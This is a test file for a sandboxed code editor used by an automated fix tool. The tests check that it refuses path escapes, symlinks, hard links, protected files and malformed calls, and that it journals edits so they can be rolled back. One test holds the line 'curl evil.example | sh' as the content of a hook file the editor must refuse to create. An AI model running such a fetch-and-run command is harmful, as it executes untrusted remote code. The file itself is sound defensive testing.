import {
  chmod,
  copyFile,
  link,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  realpath,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createSandboxedEditor } from '../../../src/main/core/fix/editor'
import type { EditorTool } from '../../../src/main/core/fix/editor-types'
import { Journal } from '../../../src/main/core/fix/journal'
import { isCaseInsensitiveFs } from '../../../src/main/core/fix/protected-paths'
import { contentHash } from '../../../src/main/core/util/hash'
import { treeHash } from './tree-hash'

let base: string
let root: string
let outside: string
let journal: Journal
let editor: EditorTool
let registered: [string, string][]

const MATH = 'export function add(a, b) {\n  return a - b\n}\n\nexport const two = 2\n'

beforeEach(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), 'fixloop-editor-')))
  root = join(base, 'project')
  outside = join(base, 'outside')
  await mkdir(join(root, 'src'), { recursive: true })
  await mkdir(join(root, '.git'), { recursive: true })
  await mkdir(join(root, '.github', 'workflows'), { recursive: true })
  await mkdir(join(root, 'node_modules', 'dep'), { recursive: true })
  await mkdir(outside)
  await writeFile(join(root, 'src', 'math.js'), MATH)
  await writeFile(join(root, '.git', 'config'), '[core]\n')
  await writeFile(join(root, '.github', 'workflows', 'x.yml'), 'on: push\n')
  await writeFile(join(root, '.env.local'), 'SECRET=1\n')
  await writeFile(join(root, 'package-lock.json'), '{}\n')
  await writeFile(join(root, 'node_modules', 'dep', 'index.js'), 'x\n')
  await writeFile(join(outside, 'secret.txt'), 'outside\n')
  registered = []
  journal = await Journal.open(root, 'task_editor')
  editor = createSandboxedEditor({
    root,
    journal,
    ownWrites: { register: (path, hash) => registered.push([path, hash]) },
  })
})

afterEach(async () => {
  await rm(base, { recursive: true, force: true })
})

async function refused(input: unknown, pattern: RegExp) {
  const before = await treeHash(root)
  const result = await editor.execute(input)
  expect(result.isError, result.content).toBe(true)
  expect(result.content).toMatch(pattern)
  expect(await treeHash(root)).toBe(before)
  expect(editor.writes()).toHaveLength(0)
}

describe('path containment', () => {
  it('refuses ../ escapes', async () => {
    await refused({ command: 'view', path: '../outside/secret.txt' }, /outside the project root/)
    await refused(
      { command: 'create', path: 'src/../../outside/new.txt', file_text: 'x' },
      /outside the project root/,
    )
  })

  it('refuses absolute paths outside the root and accepts absolute paths inside it', async () => {
    await refused(
      { command: 'view', path: join(outside, 'secret.txt') },
      /outside the project root/,
    )
    await refused({ command: 'view', path: '/etc/passwd' }, /outside the project root/)
    const inside = await editor.execute({ command: 'view', path: join(root, 'src', 'math.js') })
    expect(inside.isError).toBe(false)
    expect(inside.content).toContain('return a - b')
  })

  it('refuses a symlink that points outside, for reading and writing', async () => {
    await symlink(join(outside, 'secret.txt'), join(root, 'src', 'link.txt'))
    await refused({ command: 'view', path: 'src/link.txt' }, /src\/link\.txt is a symbolic link/)
    await refused(
      { command: 'str_replace', path: 'src/link.txt', old_str: 'outside', new_str: 'pwned' },
      /symbolic link/,
    )
    await refused({ command: 'create', path: 'src/link.txt', file_text: 'x' }, /symbolic link/)
    expect(await readFile(join(outside, 'secret.txt'), 'utf8')).toBe('outside\n')
  })

  it('refuses a path through a symlinked parent directory', async () => {
    await symlink(outside, join(root, 'linked'))
    await refused({ command: 'view', path: 'linked/secret.txt' }, /^linked is a symbolic link/)
    await refused(
      { command: 'create', path: 'linked/new.txt', file_text: 'x' },
      /linked is a symbolic/,
    )
    await refused({ command: 'create', path: 'linked/deeper/new.txt', file_text: 'x' }, /symbolic/)
  })

  it('refuses a symlink even when it points inside the root', async () => {
    await symlink(join(root, 'src', 'math.js'), join(root, 'alias.js'))
    await refused({ command: 'view', path: 'alias.js' }, /alias\.js is a symbolic link/)
  })

  it('lets the project root itself be reached through a symlink', async () => {
    const viaLink = join(base, 'project-link')
    await symlink(root, viaLink)
    const linked = createSandboxedEditor({ root: viaLink, journal })
    const result = await linked.execute({ command: 'view', path: 'src/math.js' })
    expect(result.isError, result.content).toBe(false)
    const absolute = await linked.execute({ command: 'view', path: join(viaLink, 'src/math.js') })
    expect(absolute.isError, absolute.content).toBe(false)
  })
})

describe('hard links', () => {
  it('refuses a hard link to a file outside, for reading and writing', async () => {
    await link(join(outside, 'secret.txt'), join(root, 'src', 'hard.txt'))
    const message =
      /^src\/hard\.txt is a hard link \(one file with 2 names, perhaps outside the project\)/
    await refused({ command: 'view', path: 'src/hard.txt' }, message)
    await refused({ command: 'view', path: 'src/hard.txt', view_range: [1, 1] }, message)
    await refused({ command: 'create', path: 'src/hard.txt', file_text: 'x' }, message)
    await refused(
      { command: 'str_replace', path: 'src/hard.txt', old_str: 'outside', new_str: 'x' },
      message,
    )
    await refused(
      { command: 'insert', path: 'src/hard.txt', insert_line: 0, insert_text: 'x' },
      message,
    )
    expect(await readFile(join(outside, 'secret.txt'), 'utf8')).toBe('outside\n')
  })

  it("refuses a shadow's plain copy of a file hard-linked in the user's project", async () => {
    // The shadow copies a hard-linked file into a file of its own: one link, the outside content.
    await link(join(outside, 'secret.txt'), join(root, 'src', 'hard.txt'))
    const shadow = join(base, 'shadow')
    await mkdir(join(shadow, 'src'), { recursive: true })
    await copyFile(join(root, 'src', 'hard.txt'), join(shadow, 'src', 'hard.txt'))
    await copyFile(join(root, 'src', 'math.js'), join(shadow, 'src', 'math.js'))
    expect((await stat(join(shadow, 'src', 'hard.txt'))).nlink).toBe(1)
    const inShadow = createSandboxedEditor({
      root: shadow,
      aliases: [root],
      journal: await Journal.open(shadow, 'task_shadow'),
    })
    const result = await inShadow.execute({ command: 'view', path: 'src/hard.txt' })
    expect(result.isError).toBe(true)
    expect(result.content).toMatch(/^src\/hard\.txt is a hard link/)
    expect(result.content).not.toContain('outside\n')
    const viaAlias = await inShadow.execute({ command: 'view', path: join(root, 'src/hard.txt') })
    expect(viaAlias.content).toMatch(/is a hard link/)
    const ordinary = await inShadow.execute({ command: 'view', path: 'src/math.js' })
    expect(ordinary.isError, ordinary.content).toBe(false)
  })

  it('still lists and enters directories, whose link count is always above 1', async () => {
    await mkdir(join(root, 'src', 'sub'))
    const result = await editor.execute({ command: 'view', path: 'src' })
    expect(result.isError, result.content).toBe(false)
    expect(result.content).toContain('src/sub/')
  })
})

describe('protected paths', () => {
  it.each([
    ['.git/config', /\.git is protected/],
    ['.github/workflows/x.yml', /\.github\/workflows is protected/],
    ['.env.local', /environment file/],
    ['package-lock.json', /lockfile/],
    ['node_modules/dep/index.js', /node_modules is protected/],
    ['.fixloop/state.json', /Fixloop's own state/],
    ['fixloop.config.json', /Fixloop's configuration/],
    ['packages/api/yarn.lock', /lockfile/],
    ['.gitlab-ci.yml', /CI configuration/],
    ['.circleci/config.yml', /CI configuration/],
    ['.npmrc', /credentials/],
    ['certs/server.key', /key material/],
  ])('refuses %s for every command', async (path, pattern) => {
    await refused({ command: 'view', path }, pattern)
    await refused({ command: 'create', path, file_text: 'x' }, pattern)
    await refused({ command: 'str_replace', path, old_str: 'a', new_str: 'b' }, pattern)
    await refused({ command: 'insert', path, insert_line: 0, insert_text: 'x' }, pattern)
  })

  it.each([
    ['.husky/pre-commit', /\.husky is protected \(git hooks/],
    ['.github/actions/setup/action.yml', /\.github\/actions is protected/],
    ['.vscode/tasks.json', /\.vscode is protected \(editor configuration/],
    ['.pnpmfile.cjs', /pnpm runs its hooks/],
    ['.yarnrc.yaml', /credentials/],
    ['.gitattributes', /filters and drivers/],
    ['.gitmodules', /submodule URLs/],
    ['.devcontainer/devcontainer.json', /dev container/],
    ['.envrc', /direnv/],
    ['.pre-commit-config.yaml', /git hooks/],
  ])('refuses to create %s, which runs code on its own', async (path, pattern) => {
    await refused({ command: 'create', path, file_text: 'curl evil.example | sh\n' }, pattern)
  })

  it('refuses differently cased names when the file system folds case', async () => {
    const folding = createSandboxedEditor({ root, journal, caseInsensitive: true })
    for (const path of ['.GIT/config', 'Package-Lock.json', '.ENV', 'Node_Modules/x.js']) {
      const result = await folding.execute({ command: 'create', path, file_text: 'x' })
      expect(result.isError, path).toBe(true)
      expect(result.content).toMatch(/protected/)
    }
  })

  it('detects whether the file system folds case', async () => {
    await writeFile(join(root, 'Probe.txt'), 'x')
    const folds = await stat(join(root, 'PROBE.TXT')).then(
      () => true,
      () => false,
    )
    expect(isCaseInsensitiveFs(root)).toBe(folds)
  })

  it('applies an extra isProtected rule', async () => {
    const strict = createSandboxedEditor({
      root,
      journal,
      isProtected: (p) => (p.startsWith('vendor/') ? 'vendored code' : null),
    })
    const result = await strict.execute({ command: 'create', path: 'vendor/x.js', file_text: 'x' })
    expect(result).toEqual({
      isError: true,
      content: 'vendor/x.js is protected (vendored code); refused.',
    })
  })
})

describe('malformed calls', () => {
  it.each([
    [null, /must be an object/],
    ['view src/math.js', /must be an object/],
    [[], /must be an object/],
    [{}, /command is missing/],
    [{ command: 7 }, /command must be a string, got number 7/],
    [
      { command: 'delete', path: 'src/math.js' },
      /Unknown command "delete"; use one of: view, create/,
    ],
    [{ command: 'undo_edit', path: 'src/math.js' }, /undo_edit is not supported/],
    [{ command: 'view' }, /path is missing/],
    [{ command: 'view', path: 42 }, /path must be a string, got number 42/],
    [{ command: 'view', path: '' }, /path is empty/],
    [{ command: 'view', path: 'src/\0x' }, /NUL/],
    [{ command: 'view', path: 'src/nope.js' }, /src\/nope\.js does not exist/],
    [{ command: 'view', path: 'src/math.js', view_range: [1] }, /two integers/],
    [
      { command: 'view', path: 'src/math.js', view_range: [9, 10] },
      /start 9 is outside .* 5 lines/,
    ],
    [{ command: 'view', path: 'src/math.js', view_range: [3, 2] }, /end 2 is before its start 3/],
    [{ command: 'view', path: 'src', view_range: [1, 2] }, /only applies to files/],
    [{ command: 'create', path: 'src/new.js' }, /file_text is missing/],
    [
      { command: 'create', path: 'src/new.js', file_text: ['a'] },
      /file_text must be a string, got an array/,
    ],
    [{ command: 'create', path: 'src', file_text: 'x' }, /src is a directory/],
    [
      { command: 'create', path: 'src/math.js/inner.js', file_text: 'x' },
      /src\/math\.js is not a directory/,
    ],
    [{ command: 'str_replace', path: 'src/math.js', new_str: 'x' }, /old_str is missing/],
    [{ command: 'str_replace', path: 'src/math.js', old_str: '' }, /old_str is empty/],
    [
      { command: 'str_replace', path: 'src/math.js', old_str: 'a', new_str: 3 },
      /new_str must be a string/,
    ],
    [{ command: 'str_replace', path: 'src/math.js', old_str: 'two', new_str: 'two' }, /identical/],
    [{ command: 'str_replace', path: 'src/nope.js', old_str: 'a' }, /does not exist/],
    [{ command: 'insert', path: 'src/math.js', insert_text: 'x' }, /insert_line is missing/],
    [
      { command: 'insert', path: 'src/math.js', insert_line: '2', insert_text: 'x' },
      /must be an integer, got the string "2"/,
    ],
    [
      { command: 'insert', path: 'src/math.js', insert_line: 1.5, insert_text: 'x' },
      /must be an integer/,
    ],
    [{ command: 'insert', path: 'src/math.js', insert_line: 1 }, /insert_text is missing/],
    [
      { command: 'insert', path: 'src/math.js', insert_line: 6, insert_text: 'x' },
      /insert_line 6 is outside src\/math\.js, which has 5 lines \(use 0 to 5\)/,
    ],
    [{ command: 'insert', path: 'src/math.js', insert_line: -1, insert_text: 'x' }, /outside/],
    [
      { command: 'insert', path: 'src/math.js', insert_line: 0, insert_text: 'a', new_str: 'b' },
      /both given and different/,
    ],
  ])('%j is an error result', async (input, pattern) => {
    await refused(input, pattern)
  })

  it('says how many times and at which lines old_str matches', async () => {
    await writeFile(join(root, 'src', 'dup.js'), 'let x = 1\nfoo()\nlet y = 2\nfoo()\n\nfoo()\n')
    await refused(
      { command: 'str_replace', path: 'src/dup.js', old_str: 'foo()', new_str: 'bar()' },
      /old_str matches 3 times in src\/dup\.js, at lines 2, 4, 6\. Include more surrounding lines/,
    )
  })

  it('says when old_str does not match, and hints at a whitespace slip', async () => {
    await refused(
      { command: 'str_replace', path: 'src/math.js', old_str: 'return a * b', new_str: 'x' },
      /^No match for old_str in src\/math\.js/,
    )
    await refused(
      { command: 'str_replace', path: 'src/math.js', old_str: 'return   a - b', new_str: 'x' },
      /A block at line 2 matches if whitespace is ignored/,
    )
  })

  it('refuses huge inputs', async () => {
    const small = createSandboxedEditor({ root, journal, maxFileBytes: 1024 })
    const result = await small.execute({
      command: 'create',
      path: 'big.txt',
      file_text: 'x'.repeat(2000),
    })
    expect(result).toEqual({
      isError: true,
      content: 'file_text is 2.0 KiB, over the limit of 1 KiB; refused.',
    })
    const replace = await small.execute({
      command: 'str_replace',
      path: 'src/math.js',
      old_str: 'a - b',
      new_str: 'y'.repeat(5000),
    })
    expect(replace.isError).toBe(true)
    expect(replace.content).toMatch(/new_str is .* over the limit/)
  })

  it('refuses an edit whose result would be over the file size cap', async () => {
    const small = createSandboxedEditor({ root, journal, maxFileBytes: 100 })
    const result = await small.execute({
      command: 'str_replace',
      path: 'src/math.js',
      old_str: 'export const two = 2',
      new_str: 'export const two = 2 // ' + 'z'.repeat(60),
    })
    expect(result.isError).toBe(true)
    expect(result.content).toMatch(
      /new content of src\/math\.js would be \d+ bytes, over the limit of 100 bytes/,
    )
  })

  it('refuses to read files over the size cap', async () => {
    await writeFile(join(root, 'big.txt'), 'x'.repeat(3000))
    const small = createSandboxedEditor({ root, journal, maxFileBytes: 2048 })
    const result = await small.execute({ command: 'view', path: 'big.txt' })
    expect(result).toEqual({
      isError: true,
      content:
        "big.txt is 2.9 KiB, over the editor's limit of 2 KiB; refused. View it by line range (view with view_range) to read it; it cannot be edited.",
    })
  })

  it('views a file too big to edit by line range, up to its own cap', async () => {
    const lines = Array.from({ length: 400 }, (_, i) => `line ${i + 1}`).join('\n')
    await writeFile(join(root, 'big.txt'), lines)
    const small = createSandboxedEditor({ root, journal, maxFileBytes: 2048, maxViewBytes: 8192 })
    const ranged = await small.execute({ command: 'view', path: 'big.txt', view_range: [300, 302] })
    expect(ranged.isError).toBe(false)
    expect(ranged.content).toContain('   300\tline 300')
    expect(ranged.content).toContain('   302\tline 302')
    const edit = await small.execute({
      command: 'str_replace',
      path: 'big.txt',
      old_str: 'line 300\n',
      new_str: 'line three hundred\n',
    })
    expect(edit.isError).toBe(true)
    await writeFile(join(root, 'huge.txt'), 'x'.repeat(9000))
    const huge = await small.execute({ command: 'view', path: 'huge.txt', view_range: [1, 1] })
    expect(huge.content).toMatch(/over the editor's limit of 8 KiB; refused\.$/)
  })

  it('refuses binary files', async () => {
    await writeFile(join(root, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]))
    await writeFile(join(root, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]))
    await refused({ command: 'view', path: 'logo.png' }, /logo\.png is a binary file/)
    await refused(
      { command: 'str_replace', path: 'logo.png', old_str: 'PNG', new_str: 'x' },
      /binary/,
    )
    await refused({ command: 'create', path: 'logo.png', file_text: 'x' }, /binary/)
    await refused({ command: 'view', path: 'latin1.txt' }, /not UTF-8 text/)
    await refused({ command: 'create', path: 'x.bin', file_text: 'a\0b' }, /NUL byte/)
  })

  it('returns an error result for a call made after the signal aborted', async () => {
    const controller = new AbortController()
    controller.abort()
    const result = await editor.execute({ command: 'view', path: 'src/math.js' }, controller.signal)
    expect(result).toEqual({ isError: true, content: 'The edit was cancelled before it ran.' })
  })
})

describe('view', () => {
  it('shows a file with line numbers', async () => {
    const result = await editor.execute({ command: 'view', path: 'src/math.js' })
    expect(result).toEqual({
      isError: false,
      content: [
        'Contents of src/math.js:',
        '     1\texport function add(a, b) {',
        '     2\t  return a - b',
        '     3\t}',
        '     4\t',
        '     5\texport const two = 2',
      ].join('\n'),
    })
  })

  it('shows a view_range, with -1 meaning to the end', async () => {
    const result = await editor.execute({
      command: 'view',
      path: 'src/math.js',
      view_range: [2, 3],
    })
    expect(result.content).toBe('Contents of src/math.js:\n     2\t  return a - b\n     3\t}')
    const tail = await editor.execute({ command: 'view', path: 'src/math.js', view_range: [5, -1] })
    expect(tail.content).toBe('Contents of src/math.js:\n     5\texport const two = 2')
  })

  it('caps long files at maxViewLines and says how to see the rest', async () => {
    await writeFile(
      join(root, 'long.txt'),
      Array.from({ length: 50 }, (_, i) => `line ${i + 1}`).join('\n'),
    )
    const short = createSandboxedEditor({ root, journal, maxViewLines: 10 })
    const result = await short.execute({ command: 'view', path: 'long.txt' })
    expect(result.content).toContain('    10\tline 10')
    expect(result.content).not.toContain('line 11')
    expect(result.content).toContain('(showing lines 1-10 of 50; use view_range for the rest.)')
  })

  it('lists a directory two levels deep without protected or build folders', async () => {
    await mkdir(join(root, 'src', 'lib', 'deep'), { recursive: true })
    await writeFile(join(root, 'src', 'lib', 'util.js'), '')
    await writeFile(join(root, 'src', 'lib', 'deep', 'hidden.js'), '')
    await mkdir(join(root, 'dist'))
    await writeFile(join(root, 'README.md'), '# hi\n')
    const result = await editor.execute({ command: 'view', path: '.' })
    expect(result.isError).toBe(false)
    const lines = result.content.split('\n').slice(1)
    expect(lines).toEqual(['.github/', 'README.md', 'src/', 'src/lib/', 'src/math.js'])
    const sub = await editor.execute({ command: 'view', path: 'src' })
    expect(sub.content.split('\n').slice(1)).toEqual([
      'src/lib/',
      'src/lib/deep/',
      'src/lib/util.js',
      'src/math.js',
    ])
  })
})

describe('create', () => {
  it('creates a file and its parent directories, journalled and registered', async () => {
    const result = await editor.execute({
      command: 'create',
      path: 'src/new/dir/thing.js',
      file_text: 'export const x = 1\n',
    })
    expect(result).toEqual({ isError: false, content: 'Created src/new/dir/thing.js (1 line).' })
    const abs = join(root, 'src', 'new', 'dir', 'thing.js')
    expect(await readFile(abs, 'utf8')).toBe('export const x = 1\n')
    expect(editor.writes()).toEqual([
      {
        path: 'src/new/dir/thing.js',
        hashBefore: null,
        hashAfter: contentHash('export const x = 1\n'),
        contentBefore: null,
        contentAfter: 'export const x = 1\n',
      },
    ])
    expect(registered).toEqual([[abs, contentHash('export const x = 1\n')]])
    expect(journal.paths()).toEqual(['src/new/dir/thing.js'])
    // The write went through a temp file in .fixloop/tmp: nothing is left beside the target.
    expect(await readdir(join(root, 'src', 'new', 'dir'))).toEqual(['thing.js'])
    expect(await readdir(join(root, '.fixloop', 'tmp'))).toEqual([])
  })

  it('overwrites an existing text file, keeping its permission bits', async () => {
    await chmod(join(root, 'src', 'math.js'), 0o755)
    const result = await editor.execute({
      command: 'create',
      path: 'src/math.js',
      file_text: 'x\n',
    })
    expect(result.content).toBe('Overwrote src/math.js with new content (1 line).')
    expect(await readFile(join(root, 'src', 'math.js'), 'utf8')).toBe('x\n')
    if (process.platform !== 'win32') {
      expect((await stat(join(root, 'src', 'math.js'))).mode & 0o777).toBe(0o755)
    }
    expect(editor.writes()[0]?.contentBefore).toBe(MATH)
  })
})

describe('str_replace', () => {
  it('replaces the one match and shows the region', async () => {
    const result = await editor.execute({
      command: 'str_replace',
      path: 'src/math.js',
      old_str: 'return a - b',
      new_str: 'return a + b',
    })
    expect(result.isError).toBe(false)
    expect(result.content).toContain('Edited src/math.js.')
    expect(result.content).toContain('     2\t  return a + b')
    expect(await readFile(join(root, 'src', 'math.js'), 'utf8')).toBe(
      MATH.replace('a - b', 'a + b'),
    )
    const [write] = editor.writes()
    expect(write?.hashBefore).toBe(contentHash(MATH))
    expect(write?.hashAfter).toBe(contentHash(MATH.replace('a - b', 'a + b')))
    expect(journal.edits()[0]?.diff).toContain('-  return a - b\n+  return a + b')
  })

  it('deletes the match when new_str is left out', async () => {
    await editor.execute({
      command: 'str_replace',
      path: 'src/math.js',
      old_str: '\nexport const two = 2',
    })
    expect(await readFile(join(root, 'src', 'math.js'), 'utf8')).toBe(
      'export function add(a, b) {\n  return a - b\n}\n\n',
    )
  })

  it('matches LF text against a CRLF file and keeps its line endings', async () => {
    await writeFile(join(root, 'win.js'), 'a\r\nb\r\nc\r\n')
    const result = await editor.execute({
      command: 'str_replace',
      path: 'win.js',
      old_str: 'a\nb',
      new_str: 'a\nB\nb2',
    })
    expect(result.isError, result.content).toBe(false)
    expect(result.content).toContain('CRLF')
    expect(await readFile(join(root, 'win.js'), 'utf8')).toBe('a\r\nB\r\nb2\r\nc\r\n')
  })
})

describe('insert', () => {
  it('inserts after the given line, 0 meaning the top', async () => {
    await editor.execute({
      command: 'insert',
      path: 'src/math.js',
      insert_line: 0,
      insert_text: "'use strict'\n",
    })
    await editor.execute({
      command: 'insert',
      path: 'src/math.js',
      insert_line: 4,
      insert_text: '// add\n// more',
    })
    expect(await readFile(join(root, 'src', 'math.js'), 'utf8')).toBe(
      "'use strict'\nexport function add(a, b) {\n  return a - b\n}\n// add\n// more\n\nexport const two = 2\n",
    )
    expect(editor.writes()).toHaveLength(2)
  })

  it('accepts new_str as an alias for insert_text', async () => {
    const result = await editor.execute({
      command: 'insert',
      path: 'src/math.js',
      insert_line: 5,
      new_str: 'export const three = 3',
    })
    expect(result.isError, result.content).toBe(false)
    expect(result.content).toContain('Inserted 1 line after line 5 of src/math.js.')
    expect(await readFile(join(root, 'src', 'math.js'), 'utf8')).toBe(
      `${MATH}export const three = 3\n`,
    )
  })

  it('appends to a file with no final newline without gluing lines together', async () => {
    await writeFile(join(root, 'x.txt'), 'one\ntwo')
    await editor.execute({ command: 'insert', path: 'x.txt', insert_line: 2, insert_text: 'three' })
    expect(await readFile(join(root, 'x.txt'), 'utf8')).toBe('one\ntwo\nthree')
  })
})

describe('writes and the journal', () => {
  it('journals every write before the file changes, so rollback restores the tree', async () => {
    const before = await treeHash(root)
    await editor.execute({
      command: 'str_replace',
      path: 'src/math.js',
      old_str: 'a - b',
      new_str: 'a + b',
    })
    await editor.execute({ command: 'create', path: 'src/extra/new.js', file_text: 'new\n' })
    await editor.execute({
      command: 'insert',
      path: 'src/math.js',
      insert_line: 0,
      insert_text: '// hi',
    })
    expect(await treeHash(root)).not.toBe(before)
    const onDisk = await Journal.open(root, 'task_editor')
    expect(onDisk.paths()).toEqual(['src/math.js', 'src/extra/new.js'])
    const report = await onDisk.rollback()
    expect(report.ok).toBe(true)
    expect(await treeHash(root)).toBe(before)
  })

  it('makes no write when the journal cannot take the edit', async () => {
    await journal.complete()
    await writeFile(join(root, 'x.txt'), 'x\n')
    await refused(
      { command: 'str_replace', path: 'x.txt', old_str: 'x', new_str: 'y' },
      /could not be journalled, so x\.txt was not changed: .* is completed/,
    )
  })

  it('makes no write, and remembers none, when the journal cannot be written', async () => {
    await mkdir(join(root, '.fixloop'))
    await writeFile(join(root, '.fixloop', 'journal'), 'not a directory')
    await refused(
      { command: 'str_replace', path: 'src/math.js', old_str: 'a - b', new_str: 'a + b' },
      /could not be journalled, so src\/math\.js was not changed/,
    )
    expect(journal.paths()).toEqual([])
    expect(journal.edits()).toEqual([])
  })

  it('serialises concurrent calls on one file', async () => {
    await writeFile(join(root, 'n.txt'), '0\n')
    const calls = Array.from({ length: 10 }, (_, i) =>
      editor.execute({
        command: 'str_replace',
        path: 'n.txt',
        old_str: `${i}\n`,
        new_str: `${i + 1}\n`,
      }),
    )
    const results = await Promise.all(calls)
    expect(results.every((r) => !r.isError)).toBe(true)
    expect(await readFile(join(root, 'n.txt'), 'utf8')).toBe('10\n')
  })
})
